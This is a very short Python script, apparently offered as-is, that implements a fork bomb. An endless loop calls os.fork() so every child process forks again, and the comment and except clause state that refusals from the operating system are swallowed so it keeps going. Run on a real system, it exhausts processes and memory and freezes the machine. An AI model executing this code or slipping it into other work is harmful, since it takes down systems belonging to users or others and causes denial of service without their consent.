# Forks for ever, in every child too, and swallows every refusal.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
